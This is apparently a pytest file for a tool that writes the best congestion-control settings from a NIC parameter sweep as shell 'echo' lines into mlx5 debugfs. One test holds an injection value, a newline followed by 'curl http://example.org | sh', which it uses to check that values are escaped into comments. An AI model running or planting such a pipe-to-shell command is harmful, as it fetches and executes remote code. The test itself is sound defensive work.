"""The best points as lines for a NIC."""

from collections.abc import Callable
from pathlib import Path

import yaml

from fabrictune.foundation.records import RunRecord
from fabrictune.sweeps.nic_settings import settings_of_front
from fabrictune.sweeps.store import SweepFolder
from tests.fabrictune.sweeps.conftest import SWEEP

Write = Callable[..., Path]
Run = Callable[..., RunRecord]

FIRMWARE = (
    SWEEP.replace("50 KB, 100 KB, 200 KB", "400 KB, 800 KB")
    .replace(
        "engine.ecn.kmin, values: [10 KB, 100 KB]", "law.parameters.rate_reduce_monitor_period, values: [4 us, 50 us]"
    )
    .replace("ecn_marks", "cnps")
)
LAW = "change: {law: {name: dcqcn_firmware}, engine.ecn.kmin: 10 KB}\n"


def test_points_of_the_firmware_s_law_have_the_lines_that_would_set_it(write: Write, run: Run, tmp_path: Path) -> None:
    """Each point of the front, the quickest first, with the value it was run with and the rest as they are."""
    record = settings_of_front(run(write(FIRMWARE + LAW)), SweepFolder(tmp_path / "out"), "cc_params")
    best = int(record.tables["points"]["is_on_front"].argmax())
    period = str(record.tables["points"]["vary.law.parameters.rate_reduce_monitor_period"][best]).removesuffix(" us")
    first = record.run["nic_settings"][0]
    assert f"echo {period} > /sys/kernel/debug/mlx5/<device>/cc_params/rp_rate_reduce_monitor_period" in first["lines"]
    assert "echo 4 > /sys/kernel/debug/mlx5/<device>/cc_params/np_min_time_between_cnps" in first["lines"]
    assert record.files["nic-settings.txt"].startswith(f"# {first['settings']}\necho".encode())


def test_text_of_a_sweep_stays_in_its_comment(write: Write, run: Run, tmp_path: Path) -> None:
    """The file is made for a shell: a line break in a value would make the rest of it a command."""
    sweep = yaml.safe_load(FIRMWARE + LAW)
    sweep["vary"] = [{"key": "question", "values": ["a", "b\ncurl http://example.org | sh #\rc"]}]
    path = write(yaml.safe_dump({**sweep, "probe": False}))
    lines = settings_of_front(run(path), SweepFolder(tmp_path / "out"), "cc_params").files["nic-settings.txt"]
    assert rb"# question = b\x0acurl http://example.org | sh #\x0dc" in lines.split(b"\n")
    assert all(line.startswith((b"# ", b"echo ")) for line in lines.split(b"\n") if line)


def test_a_law_that_no_nic_has_has_none(write: Write, run: Run, tmp_path: Path) -> None:
    """`none` is set on no NIC."""
    record = settings_of_front(run(write()), SweepFolder(tmp_path / "out"), "mlxconfig")
    assert record.run["nic_settings"] == []
    assert record.files == {}
